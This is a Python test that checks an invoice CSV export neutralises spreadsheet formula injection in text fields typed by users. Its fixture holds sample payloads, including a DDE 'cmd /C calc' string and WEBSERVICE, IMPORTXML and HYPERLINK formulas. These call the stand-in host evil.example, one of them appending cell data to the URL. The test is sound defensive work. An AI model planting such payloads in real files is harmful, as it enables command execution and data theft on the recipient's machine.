"""CSV formula injection: every text cell a person typed comes out of the invoice export neutralised, so a
spreadsheet opening it runs nothing."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

from sqlmodel import Session

from myapprentice_app.domain.csv_export import NUMERIC_COLUMNS
from myapprentice_app.domain.roles import Role
from myapprentice_app.models import TaxRate
from myapprentice_app.services import clients, invoice_export, invoices
from myapprentice_app.services.clients import ClientForm
from myapprentice_app.services.invoices import InvoiceDraft
from myapprentice_app.services.lines import LineDraft

TODAY = dt.date.today()
FORMULA_STARTS = ("=", "+", "-", "@")


def test_every_text_cell_typed_by_a_person_is_neutralised_in_the_csv(session: Session, make_actor) -> None:
    owner = make_actor(Role.OWNER)
    typed = {
        "ContactName": '=HYPERLINK("http://evil.example","Invoice")',
        "EmailAddress": "=1+1@evil.example",
        "POAddressLine1": "+SUM(1+1)*cmd|' /C calc'!A0",
        "POAddressLine2": "-2+3+cmd|' /C calc'!A0",
        "POCity": "@SUM(A1:A9)",
        "PORegion": "=1+1",
        "POPostalCode": "+2000",
        "POCountry": "-Australia",
        "Reference": "@IMPORTXML(\"http://evil.example\",\"//a\")",
        "InvoiceNumber": "=INV-0001",
        "Description": "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    }
    client = clients.create_client(session, owner, ClientForm(
        name=typed["ContactName"], email=typed["EmailAddress"], address_line1=typed["POAddressLine1"],
        address_line2=typed["POAddressLine2"], city=typed["POCity"], region=typed["PORegion"],
        postcode=typed["POPostalCode"], country=typed["POCountry"]))
    rate = TaxRate(business_id=owner.business_id, name="GST", rate=Decimal(10), xero_tax_type="=OUTPUT")
    session.add(rate)
    session.commit()
    invoice = invoices.create_invoice(session, owner, InvoiceDraft(
        client_id=client.id, issue_date=TODAY, due_date=TODAY + dt.timedelta(days=7), reference=typed["Reference"],
        number=typed["InvoiceNumber"], lines=[LineDraft(typed["Description"], "1", "-10.00", "labour", rate.id),
                                              LineDraft("Callout", "1", "90.00", "labour", rate.id)]))

    exported = invoice_export.invoice_csv(session, owner, invoice.id or 0)
    header, row, _ = list(csv.reader(io.StringIO(exported.text)))
    cells = dict(zip(header, row, strict=True))

    for column, value in typed.items():
        assert cells[column] == f"'{value}", column
    text_cells = {column: value for column, value in cells.items() if column not in NUMERIC_COLUMNS}
    assert not [column for column, value in text_cells.items() if value.startswith(FORMULA_STARTS)]
    assert cells["TaxType"] == "'=OUTPUT"
    assert cells["UnitAmount"] == "-10.00"  # a number we formatted ourselves keeps its sign
